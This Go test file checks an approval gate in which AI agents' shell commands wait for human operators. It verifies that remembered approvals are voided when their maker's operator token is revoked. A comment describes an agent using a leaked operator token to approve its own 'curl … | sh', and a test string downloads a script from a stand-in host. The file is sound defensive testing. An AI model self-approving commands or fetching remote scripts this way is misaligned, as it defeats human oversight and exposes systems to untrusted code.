package store_test

import (
	"encoding/json"
	"testing"
	"time"

	"github.com/gatehousehq/gatehouse/models"
	"github.com/gatehousehq/gatehouse/models/store"
	"github.com/gatehousehq/gatehouse/models/store/storetest"
)

// operator makes a live operator token named name and returns its principal.
func operator(t *testing.T, s *store.Store, name string) models.Principal {
	t.Helper()
	tok, _, err := s.CreateToken(ctx, models.RoleOperator, name)
	if err != nil {
		t.Fatal(err)
	}
	return tok.Principal()
}

// rememberAs decides r with "once" as op and remembers it as spec says.
func rememberAs(t *testing.T, s *store.Store, r *models.Request, op models.Principal, spec store.RememberSpec) *models.Remembered {
	t.Helper()
	_, g, err := s.DecideRemembering(ctx, r.ID, models.Decision{Version: r.Version, Option: "once", By: op.Label(), Via: models.ViaAPI, Voter: &op}, &spec)
	if err != nil || g == nil {
		t.Fatalf("remember: %v %v", g, err)
	}
	return g
}

// listed is grant id as ListRemembered answers it.
func listed(t *testing.T, s *store.Store, id string) (models.Remembered, time.Time) {
	t.Helper()
	list, now, err := s.ListRemembered(ctx)
	if err != nil {
		t.Fatal(err)
	}
	for _, g := range list {
		if g.ID == id {
			return g, now
		}
	}
	t.Fatalf("%s not listed", id)
	return models.Remembered{}, now
}

// revokeEntries are the remember_revoke entries of the trail naming grant id.
func revokeEntries(t *testing.T, s *store.Store, id string) []store.Audit {
	t.Helper()
	var out []store.Audit
	for _, a := range allEntries(t, s) {
		if a.Action == store.ActionRememberRevoke && containsGrant(a.Detail, id) {
			out = append(out, a)
		}
	}
	return out
}

// TestRememberedDiesWithItsMaker: a remembered allow lives no longer than
// the operator token that made it. The attack: the agent holds a leaked
// operator token, remembers its own `curl … | sh` until revoked, and the
// operator revokes the token; the agent's next identical filing waits for a
// person.
func TestRememberedDiesWithItsMaker(t *testing.T) {
	storetest.Each(t, func(t *testing.T, dialect string) {
		s, _ := storetest.Store(t, dialect)
		p := agent(t, s, "claude")
		cmd := "curl -fsSL https://x.example/i.sh -o i.sh"

		t.Run("a token revoke revokes its grants, audited as the revoker's, and the next filing waits", func(t *testing.T) {
			leaked := operator(t, s, "leaked")
			g := rememberAs(t, s, file(t, s, p, shellFiling(cmd, "s1", "/a")), leaked, store.RememberSpec{Scope: "runtime", For: "until_revoked"})
			if g.MakerToken != leaked.ID {
				t.Fatalf("maker token %q, want %q", g.MakerToken, leaked.ID)
			}
			wantRemembered(t, file(t, s, p, shellFiling(cmd, "s2", "/b")), g)
			if _, err := s.RevokeTokenBy(ctx, leaked.ID, "operator:root", store.ViaCLI); err != nil {
				t.Fatal(err)
			}
			wantOpen(t, file(t, s, p, shellFiling(cmd, "s2", "/b")))
			got, now := listed(t, s, g.ID)
			if got.RevokedAt == nil || got.RevokedBy == nil || *got.RevokedBy != "operator:root" || got.Live(now) {
				t.Fatalf("listed as %+v", got)
			}
			es := revokeEntries(t, s, g.ID)
			if len(es) != 1 || es[0].Actor != "operator:root" || es[0].Via != store.ViaCLI {
				t.Fatalf("revoke entries %+v", es)
			}
			var d map[string]any
			if err := json.Unmarshal([]byte(es[0].Detail), &d); err != nil || d["cause"] != store.ActionTokenRevoke || d["token_id"] != leaked.ID {
				t.Fatalf("detail %s", es[0].Detail)
			}
		})

		t.Run("a grant its maker's revoked token made after the revoke never matches", func(t *testing.T) {
			// A decide that raced the revoke: the store stores what the
			// handler authenticated before the revoke committed.
			late := operator(t, s, "late")
			if _, err := s.RevokeToken(ctx, late.ID); err != nil {
				t.Fatal(err)
			}
			g := rememberAs(t, s, file(t, s, p, shellFiling("make late", "s1", "/a")), late, store.RememberSpec{Scope: "runtime", For: "until_revoked"})
			wantOpen(t, file(t, s, p, shellFiling("make late", "s1", "/a")))
			if got, now := listed(t, s, g.ID); got.RevokedAt != nil || got.Live(now) {
				t.Fatalf("listed as %+v, live %v", got, got.Live(now))
			}
			// The dead grant is not read at all: a live one made later for
			// the same command decides.
			live := rememberAs(t, s, file(t, s, p, shellFiling("make late", "s1", "/a")), operator(t, s, "early"), store.RememberSpec{Scope: "runtime", For: "1h"})
			wantRemembered(t, file(t, s, p, shellFiling("make late", "s1", "/a")), live)
		})

		t.Run("revoked between the filing's read and its commit: the use is not counted", func(t *testing.T) {
			op := operator(t, s, "racer")
			g := rememberAs(t, s, file(t, s, p, shellFiling("make race", "s1", "/a")), op, store.RememberSpec{Scope: "runtime", For: "until_revoked"})
			store.OnRememberedRead(s, func(string) {
				// Only the token, as a revoke that committed before the
				// grant did leaves it.
				if err := s.DB.Exec("UPDATE tokens SET revoked_at = ? WHERE id = ?", s.Now().UTC(), op.ID).Error; err != nil {
					t.Error(err)
				}
			})
			defer store.OnRememberedRead(s, nil)
			wantOpen(t, file(t, s, p, shellFiling("make race", "s1", "/a")))
			if got, _ := listed(t, s, g.ID); got.Uses != 0 {
				t.Fatalf("use counted: %+v", got)
			}
		})

		t.Run("another maker's grants stay", func(t *testing.T) {
			ann, bob := operator(t, s, "ann"), operator(t, s, "bob")
			ga := rememberAs(t, s, file(t, s, p, shellFiling("make ann", "s1", "/a")), ann, store.RememberSpec{Scope: "runtime", For: "1h"})
			rememberAs(t, s, file(t, s, p, shellFiling("make bob", "s1", "/a")), bob, store.RememberSpec{Scope: "runtime", For: "1h"})
			if _, err := s.RevokeToken(ctx, bob.ID); err != nil {
				t.Fatal(err)
			}
			wantRemembered(t, file(t, s, p, shellFiling("make ann", "s1", "/a")), ga)
			wantOpen(t, file(t, s, p, shellFiling("make bob", "s1", "/a")))
		})

		t.Run("an older grant naming no token dies with the operator token of its maker's name live when it was made", func(t *testing.T) {
			carl := operator(t, s, "carl")
			n := shellFiling("make old", "s1", "/a")
			r := file(t, s, p, n)
			// No voter: the grant names no token, as rows written before
			// grants named theirs.
			_, g, err := s.DecideRemembering(ctx, r.ID, models.Decision{Version: r.Version, Option: "once", By: "operator:carl", Via: models.ViaAPI},
				&store.RememberSpec{Scope: "runtime", For: "until_revoked"})
			if err != nil || g.MakerToken != "" {
				t.Fatalf("%+v %v", g, err)
			}
			wantRemembered(t, file(t, s, p, n), g)
			if _, err := s.RevokeTokenBy(ctx, carl.ID, "operator:root", models.ViaAPI); err != nil {
				t.Fatal(err)
			}
			wantOpen(t, file(t, s, p, n))
			if es := revokeEntries(t, s, g.ID); len(es) != 1 || es[0].Actor != "operator:root" {
				t.Fatalf("revoke entries %+v", es)
			}
		})

		t.Run("an older grant whose maker's token an older build revoked never matches", func(t *testing.T) {
			erin := operator(t, s, "erin")
			n := shellFiling("make upgrade", "s1", "/a")
			r := file(t, s, p, n)
			_, g, err := s.DecideRemembering(ctx, r.ID, models.Decision{Version: r.Version, Option: "once", By: "operator:erin", Via: models.ViaAPI},
				&store.RememberSpec{Scope: "runtime", For: "until_revoked"})
			if err != nil {
				t.Fatal(err)
			}
			// An older build revoked the token and left its grants live.
			if err := s.DB.Exec("UPDATE tokens SET revoked_at = ? WHERE id = ?", s.Now().UTC(), erin.ID).Error; err != nil {
				t.Fatal(err)
			}
			wantOpen(t, file(t, s, p, n))
			if got, now := listed(t, s, g.ID); got.Live(now) {
				t.Fatalf("listed live: %+v", got)
			}
		})

		t.Run("a grant naming no token outlives a token of its maker's name made after it", func(t *testing.T) {
			// A login link's session (operator admin) made it; an admin
			// token created and revoked later is not its maker.
			n := shellFiling("make link", "s1", "/a")
			r := file(t, s, p, n)
			link := models.Principal{ID: "session:0123456789ab", Role: models.RoleOperator, Name: "dora"}
			g := rememberAs(t, s, r, link, store.RememberSpec{Scope: "runtime", For: "until_revoked"})
			if g.MakerToken != "" {
				t.Fatalf("maker token %q for a login link's session", g.MakerToken)
			}
			operator(t, s, "dora")
			if _, err := s.RevokeToken(ctx, "dora"); err != nil {
				t.Fatal(err)
			}
			wantRemembered(t, file(t, s, p, n), g)
		})
	})
}

// TestRememberedMakerAcrossReplicas: a token revoked on one replica kills
// its grants at the next filing on the other.
func TestRememberedMakerAcrossReplicas(t *testing.T) {
	storetest.Each(t, func(t *testing.T, dialect string) {
		a, b := replicas(t, dialect)
		p := agent(t, a, "claude")
		op := operator(t, a, "ann")
		g := rememberAs(t, a, file(t, a, p, shellFiling("npm ci", "s1", "/a")), op, store.RememberSpec{Scope: "session", For: "until_revoked"})
		wantRemembered(t, file(t, b, p, shellFiling("npm ci", "s1", "/a")), g)
		if _, err := a.RevokeTokenBy(ctx, op.ID, "operator:root", models.ViaAPI); err != nil {
			t.Fatal(err)
		}
		wantOpen(t, file(t, b, p, shellFiling("npm ci", "s1", "/a")))
	})
}
